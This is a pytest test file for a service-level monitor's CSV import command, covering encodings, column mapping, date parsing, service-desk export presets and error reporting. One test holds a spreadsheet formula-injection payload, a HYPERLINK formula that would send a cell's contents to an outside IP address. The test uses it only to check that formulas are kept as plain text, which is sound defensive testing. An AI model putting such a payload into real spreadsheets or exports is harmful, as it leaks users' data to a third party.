"""Tickets and figures from files as spreadsheets and service desks make them."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

from sla_monitor.register.csv_sheet import FIELDS, SIZE_LIMIT, heading, read_sheet
from sla_monitor.register.presets import PRESETS
from tests.register.office import Office

TICKETS = """\
id,priority,service,opened,ended
INC1,P1,custody,2024-02-05 09:00,2024-02-05 10:00
INC2,P2,,2024-02-06 09:00,
"""


@pytest.fixture
def office(tmp_path: Path) -> Office:
    return Office.furnished(tmp_path)


def tickets(office: Office) -> list[dict[str, object]]:
    listed = office.done("list", "small", "--kind", "ticket", "--format", "json").json["entries"]
    return [entry["said"] for entry in listed]


def test_each_row_is_an_entry_that_names_its_file(office: Office) -> None:
    said = office.done("import", "small", office.file(TICKETS), "--kind", "ticket", "--yes")
    assert said.out == "2 rows: 2 added (entries 1 to 2), 0 in the register already\n"
    (first, second) = office.done("list", "small", "--format", "json").json["entries"]
    assert first["said"]["ended"] == "2024-02-05T10:00:00Z"
    assert (second["said"]["service"], second["said"]["ended"]) == (None, None)
    assert first["evidence"].startswith("tickets.csv, SHA-256 ")


def test_one_row_is_told_as_one(office: Office) -> None:
    path = office.file("\n".join(TICKETS.splitlines()[:2]))
    assert office.done("import", "small", path, "--kind", "ticket", "--dry-run").out.startswith("1 row: 1 would be")
    said = office.done("import", "small", path, "--kind", "ticket", "--yes")
    assert said.out == "1 row: 1 added (entry 1), 0 in the register already\n"


def test_the_same_file_again_adds_nothing(office: Office) -> None:
    path = office.file(TICKETS)
    office.done("import", "small", path, "--kind", "ticket", "--yes")
    said = office.done("import", "small", path, "--kind", "ticket")
    assert said.out == "2 rows: 0 added, 2 in the register already\n"
    assert len(office.done("list", "small", "--all", "--format", "json").json["entries"]) == 2


def test_a_ticket_that_has_changed_is_entered_again(office: Office) -> None:
    office.done("import", "small", office.file(TICKETS), "--kind", "ticket", "--yes")
    later = office.file(TICKETS.replace("09:00,\n", "09:00,2024-02-06 11:00\n"))
    said = office.done("import", "small", later, "--kind", "ticket", "--yes", "--format", "json").json
    assert said.pop("changed")[0] == {
        "month": "2024-02",
        "figure": "KPI2",
        "before": "50.00 % (minor, 2 points)",
        "after": "100.00 % (met, 0 points)",
    }
    assert said == {
        "contract": "small",
        "rows": 2,
        "added": 1,
        "unchanged": 1,
        "dry_run": False,
        "numbers": [3, 3],
        "but": [],
    }
    assert [each["id"] for each in tickets(office)] == ["INC1", "INC2"]
    everything = office.done("list", "small", "--all", "--format", "json").json["entries"]
    assert [each["state"] for each in everything] == ["stands", "replaced by 3", "stands"]


def test_a_dry_run_checks_and_shows_and_adds_nothing(office: Office) -> None:
    said = office.done("import", "small", office.file(TICKETS), "--kind", "ticket", "--dry-run")
    assert said.out == "2 rows: 2 would be added, 0 in the register already\n"
    assert "This changes months that are over." in said.err
    assert office.done("list", "small", "--all").out == "no entries\n"


def test_a_broken_row_is_told_with_its_line_and_nothing_is_half_applied(office: Office) -> None:
    rows = ["id,priority,service,opened,ended", "INC1,P1,custody,2024-02-05 09:00,2024-02-05 10:00"]
    rows += ['INC2,P1,custdy,2024-02-05 09:00,"2024-02-05', '08:00"', "INC3,p1,,2024-02-05 09:00,2024-02-05 08:00"]
    rows += ["INC4,,,2024-03-31 01:30,", "", "INC1,P1,,2024-02-05 09:00,"]
    said = office.run("import", "small", office.file("\n".join(rows)), "--kind", "ticket", "--yes")
    assert said.code == 1
    assert [line.partition(" (")[0].partition(", where")[0] for line in said.err.splitlines()] == [
        "tickets.csv:3: ended: must be an instant",
        "tickets.csv:5: priority: no KPI counts p1",
        "tickets.csv:5: ended: must not be before opened",
        "tickets.csv:6: priority: is missing",
        "tickets.csv:6: opened: 2024-03-31 01:30:00 occurs twice or not at all in Europe/London",
        "tickets.csv:8: the same ticket is on line 2",
    ]
    assert office.done("list", "small", "--all").out == "no entries\n"


def test_what_the_contract_does_not_know_is_told_of_every_row(office: Office) -> None:
    rows = "id,priority,service,opened\nINC1,p1,custody,2024-02-05\nINC2,P1,custdy,2024-02-05\n"
    said = office.run("import", "small", office.file(rows), "--kind", "ticket", "--yes")
    assert said.err.splitlines() == [
        "tickets.csv:2: priority: no KPI counts p1 (did you mean P1?)",
        "tickets.csv:3: service: no such service: custdy (did you mean custody?)",
    ]


def test_mistakes_of_the_contract_are_told_beside_those_of_the_file(office: Office) -> None:
    rows = "id,priority,service,opened\nINC1,P1,custdy,2024-02-05\nINC2,P1,,05/02/2024 09:00\n"
    said = office.run("import", "small", office.file(rows), "--kind", "ticket", "--yes")
    assert said.err.splitlines() == [
        "tickets.csv:2: service: no such service: custdy (did you mean custody?)",
        "tickets.csv:3: opened: 05/02/2024 09:00 begins with the day or the month (say which comes first)",
    ]


def test_a_file_as_a_spreadsheet_saves_it(office: Office) -> None:
    """A byte order mark, semicolons, quotes, line ends of Windows, days first, a number kept as text, a note over two
    lines, and a column that nobody asked for."""
    text = "\ufeffIncident No;Priority;Opened;Resolved;Note;Assigned to\r\n"
    text += '"=""00123""";P1;05/02/2024 09:00;5/2/2024 9:30;"said; and\r\ndone";bob\r\n;;;;;\r\n'
    path = office.file(text)
    words = ("--kind", "ticket", "--map", "incident no=id", "--dates", "day-first", "--yes")
    said = office.done("import", "small", path, *words)
    assert "columns left out: 'Assigned to'" in said.err
    (entry,) = office.done("list", "small", "--format", "json").json["entries"]
    assert (entry["said"]["id"], entry["said"]["opened"]) == ("00123", "2024-02-05T09:00:00Z")
    assert entry["said"]["ended"] == "2024-02-05T09:30:00Z"
    assert entry["note"].split() == ["said;", "and", "done"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_file_may_be_in_the_encodings_of_spreadsheets(office: Office, encoding: str) -> None:
    text = "kpi\tmonth\tparty\tvalue\tnote\nKPI3\t2024-02\tsupplier\t81\tn° 5\n"
    path = office.file(text.encode(encoding), "figures.txt")
    office.done("import", "small", path, "--kind", "figure", "--yes")
    assert "n° 5" in office.done("list", "small", "--format", "json").json["entries"][0]["note"]


def test_a_formula_is_text(office: Office) -> None:
    formula = '=HYPERLINK("http://198.51.100.1/?"&A1)'
    rows = f'id,priority,opened,reference\n"{formula.replace(chr(34), chr(34) * 2)}",P1,2024-02-05,@SUM(1)\n'
    office.done("import", "small", office.file(rows), "--kind", "ticket", "--yes")
    assert tickets(office)[0]["id"] == formula


def test_figures_may_be_the_suppliers_without_a_column_that_says_so(office: Office) -> None:
    rows = "KPI,Month,Value,In target,Total\nKPI3,2024-02,87.5,,\nKPI2,2024-02,,9,10\n"
    office.done("import", "small", office.file(rows), "--kind", "figure", "--party", "supplier", "--yes")
    listed = office.done("list", "small", "--format", "json").json["entries"]
    told = [(one["said"]["kpi"], one["said"]["value"], one["said"]["total"], one["said"]["party"]) for one in listed]
    assert told == [("KPI3", "87.5", None, "supplier"), ("KPI2", None, 10, "supplier")]


def test_a_ticket_has_its_number_of_attempts(office: Office) -> None:
    rows = "id,priority,opened,ended,attempts\nINC1,P1,2024-02-05 09:00,2024-02-05 10:00,2\n"
    office.done("import", "small", office.file(rows), "--kind", "ticket", "--yes")
    assert tickets(office)[0]["attempts"] == 2


def test_clock_stops_stand_in_one_column(office: Office) -> None:
    stops = "waiting 2024-02-05 09:10 / 2024-02-05 09:20; waiting 2024-02-05 09:30"
    rows = f"id,priority,opened,stops\nINC1,P1,2024-02-05 09:00,{stops}\n"
    office.done("import", "small", office.file(rows), "--kind", "ticket", "--yes")
    found = tickets(office)[0]["stops"]
    assert found == [
        {"start": "2024-02-05T09:10:00Z", "end": "2024-02-05T09:20:00Z", "reason": "waiting"},
        {"start": "2024-02-05T09:30:00Z", "end": None, "reason": "waiting"},
    ]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "1: has no column that is known"),
        (b"a,b\n1,2\n", "1: has no column that is known (say which column is which; its columns: a, b)"),
        (b"id,ticket,priority\n1,2,P1\n", "1: has 2 columns for id"),
        (b"id,priority\n1,P1,\xff\n", "2: is not UTF-8 text (save the file as CSV UTF-8)"),
        (b'id,priority\n"1,P1\n', "2: cannot be read"),
        (b"id,priority,opened\n1,P1,2024-02-05,too,many\n", "2: has 5 cells, and the heading has 3"),
        (b"id,priority\n1,P\x001\n", "cannot be printed"),
    ],
)
def test_a_file_that_is_none_is_refused(office: Office, content: bytes, words: str) -> None:
    said = office.run("import", "small", office.file(content), "--kind", "ticket", "--yes")
    assert said.code == 1
    assert words in said.err or (b"\x00" in content and "tickets.csv:2" in said.err)


def test_a_mapping_of_a_column_that_is_not_there_is_refused(office: Office) -> None:
    said = office.run("import", "small", office.file(TICKETS), "--kind", "ticket", "--map", "Number=id")
    assert "tickets.csv:1: has no column 'number' (its columns: id, priority" in said.err
    said = office.run("import", "small", office.file(TICKETS), "--kind", "ticket", "--map", "id=number")
    assert (said.code, "a ticket has no field 'number'" in said.err) == (2, True)
    assert office.run("import", "small", office.file(TICKETS), "--kind", "ticket", "--map", "id").code == 2


def test_a_file_that_cannot_be_read_is_refused(office: Office) -> None:
    said = office.run("import", "small", str(office.folder / "nowhere.csv"), "--kind", "ticket")
    assert (said.code, "nowhere.csv: cannot be read: No such file or directory" in said.err) == (1, True)
    assert "larger than 64 MiB" in read_sheet(b"x" * (SIZE_LIMIT + 1), "ticket", {}).problems[0][1]


def test_a_file_of_the_wrong_kind_does_not_flood_the_terminal(office: Office) -> None:
    rows = "id,priority,opened\n" + "".join(f"INC{n},P1,yesterday\n" for n in range(500))
    said = office.run("import", "small", office.file(rows), "--kind", "ticket")
    assert len(said.err.splitlines()) == 101
    assert said.err.endswith("... and 400 more\n")


@given(
    some.one_of(some.binary(max_size=200), some.text(max_size=200).map(lambda text: text.encode("utf-8", "replace")))
)
def test_whatever_is_in_a_file_it_is_read_or_refused(content: bytes) -> None:
    sheet = read_sheet(b"id,opened\n" + content, "ticket", {})
    assert all(line >= 1 and message for line, message in sheet.problems)
    assert all(set(words) <= {"id", "opened"} for _, words in sheet.rows)
    assert isinstance(read_sheet(content, "figure", {"a": "kpi"}).problems, tuple)


def imported(office: Office, text: str, *words: str) -> list[dict[str, object]]:
    office.done("import", "small", office.file(text), "--kind", "ticket", "--yes", *words)
    return tickets(office)


def refused(office: Office, text: str, *words: str) -> list[str]:
    said = office.run("import", "small", office.file(text), "--kind", "ticket", "--yes", *words)
    assert (said.code, office.done("list", "small", "--all").out) == (1, "no entries\n")
    return said.err.splitlines()


EXPORTS = {
    "servicenow": (
        '"number","opened_at","sys_created_on","resolved_at","closed_at","priority","state"\n'
        '"INC1","2024-02-05 09:00:00","2024-02-05 08:59:59","2024-02-05 10:00:00","","1 - Critical","Resolved"\n'
    ),
    "jira": (
        "Summary,Issue key,Issue id,Status,Priority,Created,Resolved,Component/s,Component/s\n"
        "Down,INC1,10001,Done,Highest,05/Feb/24 9:00 AM,05/Feb/24 10:00 AM,a,b\n"
    ),
    "glpi": (
        '\ufeff"ID";"Title";"Status";"Opening date";"Priority";"Resolution date";"Closing date";\n'
        '"INC1";"Down";"__ Closed";"2024-02-05 09:00";"Major";"2024-02-05 10:00";"2024-02-09 10:00";\n'
    ),
    "zammad": (
        "#,Title,State,Priority,Created at,First response at,Closed at\n"
        "INC1,Down,closed,3 high,2024-02-05 09:00:00 UTC,2024-02-05 09:05:00 UTC,2024-02-05 10:00:00 UTC\n"
    ),
}


@pytest.mark.parametrize("preset", EXPORTS)
def test_a_tools_export_is_read_by_its_preset(office: Office, preset: str) -> None:
    (found,) = imported(office, EXPORTS[preset], "--preset", preset)
    assert [found[name] for name in ("id", "priority", "opened", "ended")] == [
        "INC1",
        "P1",
        "2024-02-05T09:00:00Z",
        "2024-02-05T10:00:00Z",
    ]


def test_every_preset_is_offered_tried_and_documented(office: Office) -> None:
    assert EXPORTS.keys() == PRESETS.keys()
    assert "[servicenow|jira|glpi|zammad]" in office.done("import", "--help").out
    assert {field for preset in PRESETS.values() for field in preset.columns.values()} <= set(FIELDS["ticket"])
    assert all(heading(text) == text for preset in PRESETS.values() for text in preset.columns)


def test_zammad_counts_its_priorities_upwards(office: Office) -> None:
    text = "#,Priority,Created at,Closed at\n7,1 low,2024-02-05,\n8,2 normal,2024-02-05,\n"
    assert [one["priority"] for one in imported(office, text, "--preset", "zammad")] == ["P3", "P2"]


def test_a_grouped_number_of_glpi_is_one(office: Office) -> None:
    text = '"ID";"Priority";"Opening date";"Resolution date"\n"1\u00a0234 567";"Major";"05-02-2024 09:00";""\n'
    assert imported(office, text, "--preset", "glpi", "--dates", "day-first")[0]["id"] == "1234567"


def test_priorities_and_services_have_the_names_of_the_contract(office: Office) -> None:
    text = "id,priority,service,opened,ended\n1,Sev 1,CUSTODY suite,2024-02-05,2024-02-06\n"
    text += "2,P2,Canteen,2024-02-05,2024-02-06\n"
    words = ("--priority", "sev 1=P1", "--service", "Custody Suite=custody", "--service", "*=")
    assert [(one["priority"], one["service"]) for one in imported(office, text, *words)] == [
        ("P1", "custody"),
        ("P2", None),
    ]
    assert office.run("import", "small", "x", "--kind", "ticket", "--priority", "P1").code == 2
    assert office.run("import", "small", "x", "--kind", "figure", "--preset", "jira").code == 2


def test_a_column_that_may_be_the_end_is_asked_about(office: Office) -> None:
    """Otherwise every ticket would be an open one."""
    text = "id,priority,opened,Date closed,Assignee\nINC1,P1,2024-02-05 09:00,2024-02-05 10:00,bob\n"
    assert refused(office, text)[-1] == (
        "tickets.csv:1: has no column for ended ('Date closed' may be it; say which column is which, or say"
        " that tickets without an end are open)"
    )
    assert (
        "its other columns: erledigt am" in refused(office, "id,priority,opened,erledigt am\n1,P1,2024-02-05,x\n")[-1]
    )
    assert imported(office, text, "--map", "Date closed=ended")[0]["ended"] == "2024-02-05T10:00:00Z"
    assert imported(office, text.replace("INC1", "INC2"), "--open-without-end")[1]["ended"] is None


def test_a_closed_ticket_without_an_end_is_asked_about(office: Office) -> None:
    text = "id,priority,opened,ended,Status\nINC1,P1,2024-02-05 09:00,,Cancelled\nINC2,P1,2024-02-05 09:00,,Open\n"
    (line,) = refused(office, text)
    assert line.startswith("tickets.csv:2: ended: is missing, and the ticket is Cancelled (")
    assert len(imported(office, text, "--open-without-end")) == 2


def test_a_file_as_a_service_desk_exports_it(office: Office) -> None:
    """A line with the separator, rows that look blank, a cell over 128 KiB, and more separators than columns."""
    text = "sep=;\r\nid;priority;opened;ended;description\r\n"
    text += f'INC1;P1;2024-02-05 09:00;2024-02-05T10:00:00.123456+0000;"{"long " * 40_000}";;\r\n'
    text += '  ;\t;"";"=""""";\u00a0;\u200b\r\n;;;;;;;;\r\n'
    (found,) = imported(office, text)
    assert found["ended"] == "2024-02-05T10:00:00.123Z"


def test_lines_are_counted_from_the_top_of_the_file(office: Office) -> None:
    text = "sep=;\n\n;;\nid;priority;opened;ended\n;;;\nINC1;P1;yesterday;\n"
    assert refused(office, text)[0].startswith("tickets.csv:6: opened: must be an instant")


def test_a_field_that_is_mapped_has_no_other_column(office: Office) -> None:
    text = "id,number,priority,opened,ended\nINC1,7,P1,2024-02-05,2024-02-06\n"
    assert "has 2 columns for id" in refused(office, text)[0]
    assert imported(office, text, "--map", "number=id")[0]["id"] == "7"


def test_a_priority_that_no_kpi_counts_is_told_once(office: Office) -> None:
    text = "id,priority,opened,ended\n1,P5,2024-02-05,2024-02-06\n2,P5,2024-02-05,2024-02-06\n3,P1,2024-02-05,\n"
    said = office.done("import", "small", office.file(text), "--kind", "ticket", "--yes")
    assert (said.out + said.err).count("no KPI counts tickets of priority P5") == 1
    assert "priority P1" not in said.out + said.err
